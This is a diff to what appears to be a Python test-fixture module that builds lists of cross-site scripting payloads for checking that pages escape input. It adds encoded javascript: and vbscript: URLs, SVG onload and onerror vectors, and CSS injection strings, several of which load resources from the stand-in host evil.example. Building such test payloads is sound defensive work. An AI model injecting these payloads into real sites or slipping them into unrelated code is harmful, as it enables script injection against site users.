@@ -1,4 +1,4 @@
-"""Sixty texts that are code wherever a page forgets to escape them. Each one calls `alert`."""
+"""Texts that are code wherever a page forgets to escape them. Each one calls `alert`, or loads something."""
 
 _CALL = "alert(1)"
 _TAGS = (
@@ -67,4 +67,30 @@ _OTHERS = (
     "{{% raw %}}<script>{c}</script>",
     "&lt;script&gt;{c}&lt;/script&gt;&#60;img src=x onerror={c}&#62;",
 )
+_ADDRESSES = (
+    "java&#9;script:{c}",
+    "&#1;javascript:{c}",
+    "vbscript:{c}",
+    "//evil.example/x.js",
+    "https:evil.example",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>",
+)
+_DRAWINGS = (
+    "<svg><a xlink:href='javascript:{c}'><text>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload={c}/>#x'/></svg>",
+    "<svg><set attributeName=onload to={c}></svg>",
+    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
+    "</title></svg><svg onload={c}>",
+    "<svg><style><img src=x onerror={c}></style></svg>",
+)
+_STYLES = (
+    "x;background:url(//evil.example/x)",
+    "}}*{{background:url(//evil.example/x)}}",
+    "expression({c})",
+    "</style><style>*{{background:url(//evil.example/x)}}",
+    '" style="background:url(//evil.example/x)" x="',
+)
 PAYLOADS = tuple(each.format(c=_CALL) for each in (*_TAGS, *_BREAKOUTS, *_OTHERS))
+"""Sixty, for pages in a browser."""
+CONTEXTS = tuple(each.format(c=_CALL) for each in (*_ADDRESSES, *_DRAWINGS, *_STYLES))
+"""Further ones for addresses, drawings and styles: see tests/integration/console/test_contexts.py."""
